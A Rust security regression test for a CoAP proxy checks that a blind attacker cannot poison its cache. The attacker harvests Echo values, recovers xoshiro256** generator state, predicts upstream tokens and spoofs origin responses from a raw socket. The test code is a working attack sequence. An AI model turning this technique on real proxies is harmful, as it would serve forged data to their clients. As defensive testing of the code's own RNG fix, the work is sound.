//! Issue 26 item 2, tried as an attacker on the same network would, against the real `corral proxy`:
//! blind cache poisoning. The attacker collects values the proxy drew from its generator (Echo values: it
//! asks for the proxy's status until its first-answer credit is spent, and every answer is then a 4.01
//! with an Echo value), recovers the xoshiro256** state from them (`xoshiro/mod.rs`), makes the proxy
//! fetch a resource from an origin, and at once sends, from the origin's address (a raw socket), a
//! response with each predicted token, a huge Max-Age and "POISONED…". Against the old generator the
//! prediction holds and every later client gets the forged answer from the cache; against the ChaCha20
//! `SecretRng` nothing is predicted and the cache holds the origin's answer.
//!
//! Spoofing needs a raw socket (root); without one the test prints `skipped: …` and passes.

use crate::common;
#[path = "../../../corral-proto/tests/xoshiro/mod.rs"]
mod xoshiro;

use common::*;
use corral_proto::wire::{Code, Message, MessageId, MessageType, OptionNumber, Token};
use std::net::{SocketAddr, SocketAddrV4, UdpSocket};
use std::process::Command;
use std::sync::mpsc;
use std::time::Duration;

/// Echo values collected: a few more than the four that determine the state.
const ECHOES: usize = 8;
/// How many outputs past the last Echo value the upstream token may be (the proxy draws a first message ID
/// for the new origin too).
const AHEAD: usize = 4;

/// An origin that answers every CON request a second late, with "genuine" and Max-Age 60, and reports the
/// token of each request it got (the test's check of the prediction; the attacker never sees it).
fn slow_origin() -> (SocketAddrV4, mpsc::Receiver<Vec<u8>>) {
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    let SocketAddr::V4(addr) = sock.local_addr().unwrap() else { unreachable!() };
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let mut buf = [0u8; 2048];
        while let Ok((n, from)) = sock.recv_from(&mut buf) {
            let Ok(req) = Message::parse(&buf[..n]) else { continue };
            if req.mtype != MessageType::Con || tx.send(req.token.as_bytes().to_vec()).is_err() {
                continue;
            }
            std::thread::sleep(Duration::from_secs(1));
            let mut r = Message::new(MessageType::Ack, Code::CONTENT, req.mid, req.token);
            r.options.set_uint(OptionNumber::MAX_AGE, 60);
            r.payload = b"genuine".to_vec();
            let _ = sock.send_to(&r.encode(), from);
        }
    });
    (addr, rx)
}

fn get(mid: u16, token: &[u8]) -> Message {
    Message::new(MessageType::Non, Code::GET, MessageId(mid), Token::new(token).unwrap())
}

#[test]
fn a_blind_spoofer_cannot_poison_the_proxy_cache() {
    let Some(mut spoofer) = Spoofer::new() else { return };
    let (_proxy, j) = spawn_json(Command::new(CORRAL).args(["proxy", "--bind", "127.0.0.1:0", "--json"]));
    let proxy_uri = j["proxy_uri"].as_str().unwrap().to_string();
    let proxy: SocketAddrV4 = proxy_uri.trim_start_matches("coap://").parse().unwrap();
    let (origin, tokens) = slow_origin();
    let attacker = UdpSocket::bind("127.0.0.1:0").unwrap();
    attacker.set_read_timeout(Some(Duration::from_secs(3))).unwrap();

    // 1. Echo values: the proxy's status is answered until the address's first-answer credit is spent,
    //    then challenged; the attacker never returns a value (it stays unverified).
    let mut echoes = Vec::new();
    let mut buf = [0u8; 2048];
    for mid in 0..200u16 {
        let mut m = get(mid, &mid.to_be_bytes());
        m.options.set_path("/proxy");
        attacker.send_to(&m.encode(), proxy).unwrap();
        let (n, _) = attacker.recv_from(&mut buf).expect("the proxy answers its status");
        let r = Message::parse(&buf[..n]).unwrap();
        if let Some(e) = r.options.get(OptionNumber::ECHO) {
            echoes.push(u64::from_be_bytes(e.try_into().expect("8-byte Echo values")));
            if echoes.len() == ECHOES {
                break;
            }
        }
    }
    assert_eq!(echoes.len(), ECHOES, "the proxy challenged the attacker");

    // 2. The state, if the values came from xoshiro256**, and the tokens it would draw next (4 bytes:
    //    the low bytes of one output).
    let predicted: Vec<[u8; 4]> = match xoshiro::recover(&echoes, 1) {
        Some(mut state) => {
            (0..AHEAD).map(|_| xoshiro::step(&mut state).to_le_bytes()[..4].try_into().unwrap()).collect()
        }
        None => Vec::new(),
    };
    println!("Echo values {echoes:x?}: predicted next tokens {predicted:x?}");

    // 3. The proxy fetches from the origin; the forged answers arrive first, from the origin's address.
    let target = format!("coap://{origin}/reading");
    let mut m = get(900, &[0x99]);
    m.options.push_str(OptionNumber::PROXY_URI, &target);
    attacker.send_to(&m.encode(), proxy).unwrap();
    for (i, token) in predicted.iter().enumerate() {
        let mut forged =
            Message::new(MessageType::Non, Code::CONTENT, MessageId(0x7000 + i as u16), Token::new(token).unwrap());
        forged.options.set_uint(OptionNumber::MAX_AGE, 4_294_967_290);
        forged.payload = b"POISONED by a blind spoofer".to_vec();
        spoofer.send(origin, proxy, &forged.encode());
    }
    let real = tokens.recv_timeout(Duration::from_secs(5)).expect("the proxy asks the origin");
    let hit = predicted.iter().any(|t| t[..] == real[..]);
    println!("the proxy's upstream token {real:x?}: predicted {hit}");

    // 4. A client of the proxy afterwards gets what the cache holds.
    std::thread::sleep(Duration::from_millis(1500));
    let o = corral(&["get", &target, "-P", &proxy_uri]);
    let body = stdout(&o);
    println!("a later client gets {body:?}");
    assert!(!hit, "the attacker predicted the proxy's upstream token {real:x?} from its Echo values");
    assert_eq!(body, "genuine", "the cache holds the origin's answer: {}", stderr(&o));
}
